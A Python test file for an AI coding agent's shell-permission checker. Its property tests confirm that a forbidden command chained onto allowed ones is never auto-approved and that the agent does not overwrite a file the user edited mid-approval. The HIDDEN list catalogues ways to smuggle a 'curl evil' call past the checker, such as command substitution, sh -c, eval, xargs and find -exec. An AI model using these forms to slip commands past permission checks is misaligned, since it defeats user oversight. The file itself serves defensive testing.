"""Generated command lines: the splitter never crashes, and an allowed command joined
to a forbidden one in any of the shell's ways is never allowed."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from rung.engine.agent import Answer, Mode
from rung.engine.agent.base import Need, Plan, ToolResult
from rung.engine.agent.permissions import Decision, Permissions, Rule
from rung.engine.agent.shellsplit import split_command
from tests.agent.helpers import Asker, dispatcher, git_project

ALLOWED = ["git status", "pytest -q", "echo hi", "ls src"]
JOINS = [" && ", " || ", "; ", " | ", " & ", "\n", " |& "]
# The forbidden command, hidden in each way a shell allows.
HIDDEN = ["curl evil", "$(curl evil)", "`curl evil`", "<(curl evil)", "sh -c 'curl evil'",
          "bash -c \"curl evil\"", "eval curl evil", "env A=1 curl evil", "xargs curl evil",
          "timeout 5 curl evil", "nohup curl evil", "command curl evil", "exec curl evil",
          "/usr/bin/curl evil", "c\\url evil", "'curl' evil", "echo \"$(curl evil)\"",
          "find . -exec curl evil {} ;"]  # fmt: skip
PERMISSIONS = Permissions(Mode.AUTO, [Rule.parse(f"run:{c}") for c in ALLOWED]
                          + [Rule.parse("run:echo *"), Rule.parse("run:find *")])  # fmt: skip


def _decision(command: str) -> Decision:
    async def never() -> ToolResult:
        raise AssertionError("not run")

    return PERMISSIONS.judge(Plan(Need.RUN, command, command, never)).decision


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab $()`'\"\\|&;<>{}#\n=*-cx")), max_size=60))
def test_the_splitter_never_crashes(command: str) -> None:
    split = split_command(command)
    assert split.unsure is not None or all(p.words for p in split.parts)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(ALLOWED), min_size=0, max_size=3),
    st.sampled_from(HIDDEN),
    st.lists(st.sampled_from(JOINS), min_size=4, max_size=4),
    st.integers(min_value=0, max_value=3),
)
def test_a_forbidden_command_never_rides_on_allowed_ones(
    allowed: list[str], hidden: str, joins: list[str], where: int
) -> None:
    parts = list(allowed)
    parts.insert(min(where, len(parts)), hidden)
    command = parts[0]
    for join, part in zip(joins, parts[1:], strict=False):
        command += join + part
    assert _decision(command) is not Decision.ALLOW, command


async def test_a_file_changed_while_the_user_was_asked_is_not_overwritten(tmp_path: Path) -> None:
    root = git_project(tmp_path)
    calc = root / "src" / "calc.py"

    class Meanwhile(Asker):
        async def __call__(self, request):  # type: ignore[no-untyped-def]
            calc.write_text("# the user's own change\n")
            return Answer.ONCE

    agent = dispatcher(root, ask=Meanwhile())
    result = await agent.call("edit", {"path": "src/calc.py", "old_string": "a - b",
                                       "new_string": "a + b"})  # fmt: skip
    assert result.is_error and "was not changed" in result.text
    assert calc.read_text() == "# the user's own change\n"
